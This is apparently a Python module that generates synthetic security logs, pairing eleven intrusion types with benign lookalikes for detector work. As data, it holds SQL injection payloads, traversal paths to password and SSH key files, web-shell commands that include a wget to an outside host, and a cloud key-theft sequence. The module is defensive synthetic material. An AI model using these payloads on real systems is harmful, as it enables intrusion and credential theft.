"""Intrusions that web servers, resolvers, firewalls, gateways and clouds log, each with its innocent likeness."""

from __future__ import annotations

from forja.corpus.synth.grammar import Draw, between, hexadecimal_digits, pick, sample
from forja.corpus.synth.logs import access, bind, browser, cloud, flow, jsonl, netfilter, openvpn, proxy
from forja.corpus.synth.names import hardware_address, public_address
from forja.corpus.synth.site import Clock, Line, Site, Story

PAGES = ["/", "/index.html", "/products", "/products/{n}", "/cart", "/about", "/login", "/static/app.{h}.js", "/static/site.css", "/img/{n}.webp", "/api/v1/items?page={d}", "/search?q={w}", "/contact", "/favicon.ico", "/news/{n}", "/account", "/api/v1/session", "/robots.txt"]
WORDS = ["pump", "valve", "paper", "shelf", "lamp", "glove", "cable", "filter", "scale", "label", "boots", "drill"]
SCANNERS = (
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "python-requests/2.31.0",
    "curl/8.4.0",
    "Go-http-client/1.1",
    "Mozilla/5.0",
)


def web_noise(site: Site, clock: Clock, draw: Draw, most: int = 7) -> list[Line]:
    """Visitors."""
    lines: list[Line] = []
    client, agent = public_address(draw), browser(draw)
    for _ in range(between(0, most, draw)):
        if draw() < 0.4:
            client, agent = public_address(draw), browser(draw)
        page = pick(PAGES, draw).format(
            n=between(1, 999, draw), d=between(1, 9, draw), h=hexadecimal_digits(6, draw), w=pick(WORDS, draw)
        )
        status = pick((200, 200, 200, 304, 404 if page.startswith(("/img", "/news", "/products/")) else 200), draw)
        referer = f"https://www.{site.firm.domain}/" if draw() < 0.4 else "-"
        at = clock.after(0.5, 25)
        size = between(1800, 48000, draw) if status == 200 else 0 if status == 304 else 153
        lines.append((at, access(at, client, f"GET {page}", status, size, agent, referer)))
    return lines


def sql_injection(site: Site, draw: Draw, attack: bool) -> Story:
    """Quotes that end our sentence; or customers called O'Brien."""
    clock = Clock(site.start, draw)
    path, name = pick(
        (
            ("/search", "q"),
            ("/products", "id"),
            ("/api/v1/orders", "customer"),
            ("/news", "cat"),
            ("/login", "user"),
            ("/report", "from"),
        ),
        draw,
    )
    client = site.outside[0] if attack else public_address(draw)
    agent = pick(SCANNERS, draw) if attack and draw() < 0.6 else browser(draw)
    bad = (
        "1%27%20OR%20%271%27=%271",
        "1%20UNION%20SELECT%20NULL,NULL,NULL--",
        "-1%20UNION%20SELECT%20username,password%20FROM%20users--+",
        "1%27%20AND%20SLEEP(5)--+",
        "1;%20SELECT%20pg_sleep(5)--",
        "1%27%20ORDER%20BY%20{d}--+",
        "%27",
        "1%20AND%20{n}={n}",
        "1%27%20AND%20EXTRACTVALUE(1,CONCAT(0x7e,VERSION()))--+",
        "admin%27--",
        "1%20UNION%20ALL%20SELECT%20table_name%20FROM%20information_schema.tables--",
    )
    good = (
        "O%27Brien",
        "D%27Angelo",
        "drop+shipping",
        "union+fittings",
        "select+grade+timber",
        "10%25+discount",
        "l%27atelier",
        "1+or+2+inch+valve",
        "order+by+phone",
        "table+lamp",
    )
    lines = web_noise(site, clock, draw)
    probes = sample(bad if attack else good, between(3, 7, draw), draw)
    for probe in probes:
        value = probe.format(d=between(2, 12, draw), n=between(1000, 9999, draw)) if "{" in probe else probe
        status = pick((200, 200, 500, 403) if attack else (200,), draw)
        at = clock.after(0.2, 4) if attack else clock.after(15, 300)
        lines.append(
            (
                at,
                access(
                    at,
                    client if attack or draw() < 0.4 else public_address(draw),
                    f"GET {path}?{name}={value}",
                    status,
                    between(300, 90000 if attack else 9000, draw),
                    agent,
                ),
            )
        )
        if draw() < 0.35:
            lines += web_noise(site, clock, draw, 2)
    lines += web_noise(site, clock, draw)
    return Story(
        lines,
        "T1190",
        "access.log",
        {"source": client, "target": f"{path}?{name}=", "count": str(len(probes)), "tool": agent.split("/")[0]},
        "CWE-89",
    )


def path_traversal(site: Site, draw: Draw, attack: bool) -> Story:
    """Two dots too many; or an old page with relative links."""
    clock = Clock(site.start, draw)
    path, name = pick(
        (
            ("/download", "file"),
            ("/view", "page"),
            ("/static", ""),
            ("/export", "template"),
            ("/help", "lang"),
            ("/image", "src"),
        ),
        draw,
    )
    client = site.outside[0] if attack else public_address(draw)
    agent = pick(SCANNERS, draw) if attack and draw() < 0.5 else browser(draw)
    up = pick(("../", "..%2f", "%2e%2e/", "..%252f", "....//"), draw)
    bad = (
        "etc/passwd",
        "etc/hosts",
        "proc/self/environ",
        "var/log/auth.log",
        "home/deploy/.ssh/id_rsa",
        "app/config/.env",
        "etc/shadow",
        "windows/win.ini",
        "opt/app/settings.py",
    )
    good = (
        "manual.pdf",
        "price-list.pdf",
        "../img/logo.png",
        "terms.html",
        "catalogue-{n}.pdf",
        "../css/print.css",
        "form-{n}.docx",
        "map.svg",
    )
    lines = web_noise(site, clock, draw)
    probes = sample(bad if attack else good, between(3, 6, draw), draw)
    for probe in probes:
        value = up * between(2, 8, draw) + probe if attack else probe.format(n=between(1, 99, draw))
        request = f"GET {path}?{name}={value}" if name else f"GET {path}/{value}"
        at = clock.after(0.2, 5) if attack else clock.after(10, 200)
        status = pick((404, 403, 400, 200), draw) if attack else pick((200, 200, 304, 404), draw)
        lines.append((at, access(at, client, request, status, between(150, 4000, draw), agent)))
    lines += web_noise(site, clock, draw)
    return Story(
        lines,
        "T1190",
        "access.log",
        {"source": client, "target": path, "count": str(len(probes)), "tool": agent.split("/")[0]},
        "CWE-22",
    )


def web_shell(site: Site, draw: Draw, attack: bool) -> Story:
    """A script uploaded as a picture and then called with commands; or pictures."""
    clock = Clock(site.start, draw)
    client = site.outside[0] if attack else public_address(draw)
    agent = browser(draw)
    folder = pick(("/uploads", "/media/avatars", "/wp-content/uploads/2024", "/files/tmp", "/attachments"), draw)
    name = (
        f"{hexadecimal_digits(6, draw)}.{pick(('php', 'phtml', 'jsp', 'aspx', 'jpg.php'), draw)}"
        if attack
        else f"{pick(WORDS, draw)}-{between(1, 99, draw)}.{pick(('jpg', 'png', 'webp'), draw)}"
    )
    form = pick(("/profile/avatar", "/api/v1/upload", "/support/attach", "/admin/media"), draw)
    lines = web_noise(site, clock, draw)
    at = clock.after(2, 30)
    lines.append(
        (
            at,
            access(
                at,
                client,
                f"POST {form}",
                pick((200, 201, 302), draw),
                between(100, 900, draw),
                agent,
                f"https://www.{site.firm.domain}{form}",
            ),
        )
    )
    commands = sample(
        (
            "id",
            "whoami",
            "uname+-a",
            "cat+/etc/passwd",
            "ls+-la",
            "netstat+-an",
            "wget+http://{a}/x",
            "ps+aux",
            "cat+../config.php",
            "find+/+-perm+-4000",
        ),
        between(3, 6, draw),
        draw,
    )
    for command in commands:
        at = clock.after(2, 25)
        query = f"?{pick(('cmd', 'c', 'x', 'exec'), draw)}={command.replace('{a}', site.outside[-1])}" if attack else ""
        visitor = client if attack or draw() < 0.3 else public_address(draw)
        lines.append(
            (
                at,
                access(
                    at,
                    visitor,
                    f"{'POST' if attack and draw() < 0.3 else 'GET'} {folder}/{name}{query}",
                    200,
                    between(20, 4000, draw) if attack else between(9000, 90000, draw),
                    agent,
                ),
            )
        )
        if draw() < 0.3:
            lines += web_noise(site, clock, draw, 2)
    lines += web_noise(site, clock, draw)
    return Story(
        lines,
        "T1505.003",
        "access.log",
        {"source": client, "target": f"{folder}/{name}", "count": str(len(commands)), "tool": form},
        "CWE-434",
    )


def credential_stuffing(site: Site, draw: Draw, attack: bool) -> Story:
    """Leaked pairs tried one by one; or many customers on the day of a sale. A web application's own log."""
    clock = Clock(site.start, draw)
    lines: list[Line] = []
    count = between(7, 14, draw)
    source, agent = site.outside[0], pick(SCANNERS[1:], draw)
    failed = 0
    for _ in range(count):
        good = draw() < (0.12 if attack else 0.92)
        failed += not good
        at = clock.after(0.1, 1.2) if attack else clock.after(0.5, 9)
        rest: dict[str, object] = {
            "level": "info" if good else "warn",
            "event": "login_ok" if good else "login_failed",
            "user": f"{pick(WORDS, draw)}{between(10, 9999, draw)}",
            "ip": source if attack and draw() < 0.8 else public_address(draw),
        }
        if not good:
            rest["reason"] = pick(("bad_password", "unknown_user") if attack else ("bad_password",), draw)
        if draw() < 0.5:
            rest["ua"] = agent if attack else browser(draw)
        lines.append((at, jsonl(at, rest)))
        if draw() < 0.25:
            at = clock.after(0.1, 3)
            other = pick(
                (
                    {"event": "cart_add", "sku": between(100, 999, draw)},
                    {"event": "page_view", "path": "/sale"},
                    {"event": "cache_miss", "key": f"item:{between(1, 99, draw)}"},
                    {"event": "checkout", "total": between(9, 400, draw)},
                ),
                draw,
            )
            lines.append((at, jsonl(at, {"level": "info", **other})))
    if attack and draw() < 0.5:
        at = clock.after(1, 9)
        lines.append((at, jsonl(at, {"level": "warn", "event": "rate_limited", "ip": source, "limit": "30/min"})))
    return Story(
        lines,
        "T1110.004",
        "app.jsonl",
        {
            "source": source if attack else "many addresses",
            "target": "/login",
            "count": str(failed),
            "tool": agent.split("/")[0],
        },
        "CWE-307" if attack else None,
    )


def port_scan(site: Site, draw: Draw, attack: bool) -> Story:
    """A stranger knocks at every door; or the vulnerability scanner of the house does. Packet filter."""
    clock = Clock(site.night if attack else site.start, draw)
    source = site.outside[0] if attack else site.address(9)
    target = site.address(between(10, 250, draw))
    ports = sample(
        (
            21,
            22,
            23,
            25,
            53,
            80,
            110,
            135,
            139,
            143,
            443,
            445,
            1433,
            1521,
            3306,
            3389,
            5432,
            5900,
            6379,
            8080,
            9200,
            27017,
        ),
        between(7, 14, draw),
        draw,
    )
    lines: list[Line] = []
    for port in ports:
        at = clock.after(0.01, 0.5 if attack else 4)
        ttl = between(40, 60, draw) if attack else 63
        verdict = pick(("BLOCK", "BLOCK", "AUDIT"), draw) if attack else pick(("AUDIT", "ALLOW"), draw)
        fields = f"MAC={hardware_address(draw)} SRC={source} DST={target} LEN=44 TOS=0x00 PREC=0x00 TTL={ttl} ID={between(1, 65000, draw)} PROTO=TCP SPT={between(30000, 65000, draw)} DPT={port} WINDOW=1024 RES=0x00 SYN URGP=0"
        lines.append((at, netfilter(at, site.host, verdict, fields)))
        if draw() < 0.2:
            other = f"SRC={public_address(draw)} DST={target} LEN=52 TTL=51 PROTO={pick(('UDP', 'TCP', 'ICMP'), draw)} {pick(('SPT=53 DPT=41022', 'TYPE=8 CODE=0', 'SPT=443 DPT=50122 ACK'), draw)}"
            lines.append((at, netfilter(at, site.host, pick(("BLOCK", "ALLOW"), draw), other)))
    return Story(lines, "T1046", "ufw.log", {"source": source, "target": target, "count": str(len(ports))})


def exfiltration(site: Site, draw: Draw, attack: bool) -> Story:
    """Gigabytes to a stranger at night; or the backup to its known place. Firewall sessions."""
    clock = Clock(site.night, draw)
    source = site.address(between(20, 250, draw))
    target = site.outside[0] if attack else site.home
    lines: list[Line] = []

    def noise() -> None:
        for _ in range(between(0, 4, draw)):
            at = clock.after(5, 300)
            lines.append(
                (
                    at,
                    flow(
                        at,
                        site.address(between(20, 250, draw)),
                        between(30000, 65000, draw),
                        pick((public_address(draw), site.address(10)), draw),
                        pick((443, 443, 53, 123, 993), draw),
                        between(300, 90000, draw),
                        between(900, 4000000, draw),
                        pick(("allow", "allow", "deny"), draw),
                    ),
                )
            )

    noise()
    total = 0
    port = pick((443, 443, 22, 8443, 21), draw) if attack else pick((443, 22, 873), draw)
    count = between(3, 8, draw)
    for _ in range(count):
        sent = between(180_000_000, 2_400_000_000, draw)
        total += sent
        at = clock.after(120, 900)
        lines.append(
            (
                at,
                flow(
                    at,
                    source,
                    between(30000, 65000, draw),
                    target,
                    port,
                    sent,
                    between(90000, 2_000_000, draw),
                    "allow",
                ),
            )
        )
        if draw() < 0.3:
            noise()
    noise()
    return Story(
        lines,
        pick(("T1048", "T1041"), draw),
        "firewall session log",
        {"source": source, "target": target, "count": f"{total / 1e9:.1f} GB", "tool": str(port)},
    )


def dns_tunnel(site: Site, draw: Draw, attack: bool) -> Story:
    """Data in the names that are asked for; or mail servers that look up keys and policies."""
    clock = Clock(site.start, draw)
    client, server = site.address(between(20, 250, draw)), site.address(53)
    zone = f"{pick(('t', 'ns1', 'cdn', 'x'), draw)}.{pick(WORDS, draw)}{between(1, 99, draw)}.{pick(('test', 'invalid', 'example'), draw)}"
    lines: list[Line] = []
    count = between(5, 11, draw)
    for place in range(count):
        at = clock.after(0.1, 1.5) if attack else clock.after(5, 200)
        if attack:
            name, kind = (
                f"{place:04x}{hexadecimal_digits(between(28, 56, draw), draw)}.{zone}",
                pick(("TXT", "TXT", "NULL", "CNAME"), draw),
            )
        else:
            name, kind = pick(
                (
                    (f"selector{between(1, 3, draw)}._domainkey.{site.firm.domain}", "TXT"),
                    (f"_dmarc.{pick(WORDS, draw)}.example", "TXT"),
                    (f"{pick(WORDS, draw)}.example", "MX"),
                    (f"_spf.{pick(WORDS, draw)}.example", "TXT"),
                    (f"{hexadecimal_digits(8, draw)}.cdn.example", "A"),
                ),
                draw,
            )
        lines.append((at, bind(at, client, name, kind, server, draw)))
        if draw() < 0.35:
            at = clock.after(0.1, 3)
            name = pick(
                (
                    f"www.{site.firm.domain}",
                    f"mail.{site.firm.domain}",
                    f"time.{pick(WORDS, draw)}.example",
                    f"{between(2, 250, draw)}.{between(0, 99, draw)}.168.192.in-addr.arpa",
                ),
                draw,
            )
            lines.append(
                (
                    at,
                    bind(
                        at, site.address(between(20, 250, draw)), name, pick(("A", "AAAA", "PTR"), draw), server, draw
                    ),
                )
            )
    return Story(
        lines,
        "T1071.004",
        "named query log",
        {"source": client, "target": zone if attack else site.firm.domain, "count": str(count)},
    )


def beacon(site: Site, draw: Draw, attack: bool) -> Story:
    """A call home at even intervals to a name nobody knows; or a program that asks for updates. Web proxy."""
    clock = Clock(site.start, draw)
    client = site.address(between(20, 250, draw))
    every = pick((30, 60, 120, 300), draw) if attack else pick((600, 900, 1800, 3600), draw)
    host = (
        f"{pick(('cdn', 'api', 'img', 'static'), draw)}.{pick(WORDS, draw)}-{pick(('sync', 'metrics', 'fonts', 'edge'), draw)}.{pick(('test', 'invalid'), draw)}"
        if attack
        else f"updates.{pick(WORDS, draw)}soft.example"
    )
    path = (
        pick(("/jquery-3.3.1.min.js", "/submit.php?id={h}", "/pixel.gif", "/b/ss?v={h}", "/api/ping/{h}"), draw)
        if attack
        else pick(("/v2/manifest.json", "/agent/policy", "/check?version={n}"), draw)
    )
    agent = (
        pick(
            (
                "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0)",
                "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko",
            ),
            draw,
        )
        if attack
        else f"UpdateAgent/{between(1, 9, draw)}.{between(0, 40, draw)}"
    )
    lines: list[Line] = []
    count = between(5, 10, draw)
    for _ in range(count):
        at = clock.after(every * 0.93, every * 1.07)
        method = pick(("GET", "GET", "POST"), draw) if attack else "GET"
        url = f"http{'' if attack and draw() < 0.5 else 's'}://{host}{path.format(h=hexadecimal_digits(8, draw), n=between(100, 999, draw))}"
        lines.append((at, proxy(at, client, method, url, 200, between(40, 900, draw), agent)))
        if draw() < 0.35:
            at = clock.after(0.1, 4)
            lines.append(
                (
                    at,
                    proxy(
                        at,
                        site.address(between(20, 250, draw)),
                        pick(("GET", "CONNECT", "POST"), draw),
                        f"https://{pick(('news', 'intranet', 'mail', 'maps'), draw)}.{pick((site.firm.domain, 'city.example', 'weather.example'), draw)}/{pick(WORDS, draw)}",
                        pick((200, 304, 407, 403), draw),
                        between(500, 90000, draw),
                        browser(draw),
                    ),
                )
            )
    return Story(
        lines, "T1071.001", "proxy log", {"source": client, "target": host, "count": str(count), "tool": str(every)}
    )


def impossible_travel(site: Site, draw: Draw, attack: bool) -> Story:
    """One account in two places within minutes; or a traveller, hours apart. Sign-in log and VPN."""
    clock = Clock(site.start, draw)
    user = site.people[0].mail
    first, second = sample(("PT", "CA", "KE", "JP", "EE", "PE", "NZ", "ZA", "IE", "CL"), 2, draw)
    lines: list[Line] = []

    def sign_in(country: str, address: str, low: float, high: float, *, who: str = "", device: str = "known") -> None:
        at = clock.after(low, high)
        fields: dict[str, object] = {
            "event": "signin",
            "user": who or user,
            "ip": address,
            "country": country,
            "result": "success",
            "mfa": pick(("push", "fido2", "totp"), draw) if device == "known" else pick(("none", "sms", "push"), draw),
        }
        if draw() < 0.6:
            fields["device"] = device
        if draw() < 0.5:
            fields["app"] = pick(("mail", "files", "vpn", "crm"), draw)
        lines.append((at, jsonl(at, fields)))

    def noise() -> None:
        for _ in range(between(0, 3, draw)):
            sign_in(first, public_address(draw), 5, 400, who=pick(site.people[1:], draw).mail)

    noise()
    sign_in(first, site.home, 1, 90)
    if draw() < 0.5:
        at = clock.after(2, 30)
        lines.append(
            (
                at,
                openvpn(
                    at,
                    f"{site.home}:{between(30000, 60000, draw)} [{site.user}] Peer Connection Initiated with [AF_INET]{site.home}:{between(30000, 60000, draw)}",
                ),
            )
        )
    noise()
    gap = between(4, 50, draw) if attack else between(780, 1500, draw)
    sign_in(second, site.outside[0], gap * 60, gap * 60 + 50, device="new" if attack else "known")
    if attack:
        for action in sample(
            (
                "inbox_rule_created",
                "mfa_method_added",
                "file_download",
                "mail_forwarding_enabled",
                "password_changed",
                "consent_granted",
            ),
            between(1, 3, draw),
            draw,
        ):
            at = clock.after(20, 300)
            lines.append((at, jsonl(at, {"event": action, "user": user, "ip": site.outside[0], "result": "success"})))
    noise()
    return Story(
        lines,
        "T1078",
        "sign-in log",
        {"source": site.outside[0], "user": user, "target": f"{first} and {second}", "count": str(gap)},
    )


def push_fatigue(site: Site, draw: Draw, attack: bool) -> Story:
    """Prompt after prompt until one is accepted; or one prompt for one sign-in."""
    clock = Clock(site.night if attack else site.start, draw)
    user, source = site.people[0].mail, site.outside[0] if attack else site.home
    lines: list[Line] = []
    count = between(5, 11, draw) if attack else between(1, 2, draw)
    accepted = draw() < 0.6

    def event(what: str, result: str, low: float, high: float, who: str = user, address: str = source) -> None:
        at = clock.after(low, high)
        lines.append((at, jsonl(at, {"event": what, "user": who, "ip": address, "result": result})))

    for place in range(count):
        event("password_check", "success", 5, 70)
        last = place == count - 1
        event(
            "mfa_push",
            ("approved" if not attack or accepted else "denied")
            if last
            else pick(("denied", "timeout"), draw)
            if attack
            else "timeout",
            8,
            40,
        )
        if draw() < 0.3:
            event(
                pick(("signin", "token_refresh", "signout"), draw),
                "success",
                1,
                60,
                pick(site.people[1:], draw).mail,
                site.address(between(20, 250, draw)),
            )
    if attack and accepted:
        event("mfa_method_added", "success", 20, 200)
    if attack and not accepted and draw() < 0.6:
        event("user_report", "fraud_reported", 10, 200)
    if not attack:
        for _ in range(between(2, 6, draw)):
            event(
                pick(("signin", "token_refresh", "file_open", "calendar_read"), draw),
                "success",
                5,
                400,
                pick(site.people, draw).mail,
                site.address(between(20, 250, draw)),
            )
    return Story(
        lines,
        "T1621",
        "identity provider log",
        {
            "source": source,
            "user": user,
            "count": str(count),
            "outcome": "one was approved" if accepted else "none was approved",
        },
    )


def cloud_keys(site: Site, draw: Draw, attack: bool) -> Story:
    """A stolen access key looks round, makes itself a second one and stops the recording; or a pipeline rotates keys."""
    clock = Clock(site.night if attack else site.start, draw)
    who = site.service if attack else "pipeline-rotate"
    user = {
        "type": "IAMUser" if attack else "AssumedRole",
        "userName": who,
        "accountId": f"{between(10**11, 10**12 - 1, draw)}",
    }
    source = site.outside[0] if attack else site.address(12)
    looking: list[tuple[str, str, dict[str, object]]] = [
        ("GetCallerIdentity", "sts.amazonaws.com", {}),
        ("ListBuckets", "s3.amazonaws.com", {}),
        ("ListUsers", "iam.amazonaws.com", {}),
        ("DescribeInstances", "ec2.amazonaws.com", {"requestParameters": {"maxResults": 100}}),
        ("GetAccountAuthorizationDetails", "iam.amazonaws.com", {"errorCode": "AccessDenied"}),
        ("ListSecrets", "secretsmanager.amazonaws.com", {"errorCode": "AccessDenied"}),
    ]
    acting: list[tuple[str, str, dict[str, object]]] = [
        ("CreateAccessKey", "iam.amazonaws.com", {"requestParameters": {"userName": site.admin}}),
        ("StopLogging", "cloudtrail.amazonaws.com", {"requestParameters": {"name": "org-trail"}}),
        (
            "AttachUserPolicy",
            "iam.amazonaws.com",
            {"requestParameters": {"policyArn": "arn:aws:iam::aws:policy/AdministratorAccess", "userName": who}},
        ),
        (
            "RunInstances",
            "ec2.amazonaws.com",
            {"requestParameters": {"instanceType": "p4d.24xlarge", "minCount": 8}, "awsRegion": "ap-south-1"},
        ),
        (
            "PutBucketPolicy",
            "s3.amazonaws.com",
            {"requestParameters": {"bucketName": f"{site.firm.word.lower()}-archive", "Principal": "*"}},
        ),
        (
            "GetObject",
            "s3.amazonaws.com",
            {"requestParameters": {"bucketName": f"{site.firm.word.lower()}-hr", "key": "salaries.parquet"}},
        ),
    ]
    rotating: list[tuple[str, str, dict[str, object]]] = [
        ("AssumeRole", "sts.amazonaws.com", {"requestParameters": {"roleSessionName": "rotate"}}),
        ("ListAccessKeys", "iam.amazonaws.com", {}),
        ("CreateAccessKey", "iam.amazonaws.com", {"requestParameters": {"userName": site.service}}),
        ("PutSecretValue", "secretsmanager.amazonaws.com", {"requestParameters": {"secretId": f"{site.service}/key"}}),
        (
            "UpdateAccessKey",
            "iam.amazonaws.com",
            {"requestParameters": {"status": "Inactive", "userName": site.service}},
        ),
        ("DeleteAccessKey", "iam.amazonaws.com", {"requestParameters": {"userName": site.service}}),
        ("GetAccessKeyLastUsed", "iam.amazonaws.com", {}),
    ]
    if attack:
        events = sample(looking, between(2, 4, draw), draw) + sample(acting, between(2, 4, draw), draw)
    else:
        events = [event for event in rotating if draw() < 0.85]
    lines = []
    for name, service, extra in events:
        at = clock.after(1, 40)
        agent: dict[str, object] = (
            {"userAgent": pick(("aws-cli/2.13.5", "Boto3/1.28.10", "python-requests/2.31.0"), draw)}
            if draw() < 0.5
            else {}
        )
        lines.append((at, cloud(at, name, service, user, source, agent | extra)))
        if draw() < 0.2:
            at = clock.after(1, 30)
            lines.append(
                (
                    at,
                    cloud(
                        at,
                        pick(("GetMetricData", "DescribeAlarms", "PutObject", "Decrypt"), draw),
                        "monitoring.amazonaws.com",
                        {"type": "AWSService", "userName": "ops"},
                        site.address(10),
                        {"readOnly": True},
                    ),
                )
            )
    return Story(
        lines,
        "T1098.001" if attack else "T1078.004",
        "cloud audit trail",
        {
            "source": source,
            "user": who,
            "target": site.admin,
            "count": str(len(events)),
            "tool": ", ".join(event[0] for event in events[-2:]),
        },
    )


NET_ATTACKS = {
    "sql-injection": sql_injection,
    "path-traversal": path_traversal,
    "web-shell": web_shell,
    "credential-stuffing": credential_stuffing,
    "port-scan": port_scan,
    "exfiltration": exfiltration,
    "dns-tunnel": dns_tunnel,
    "c2-beacon": beacon,
    "impossible-travel": impossible_travel,
    "push-fatigue": push_fatigue,
    "cloud-key-theft": cloud_keys,
}
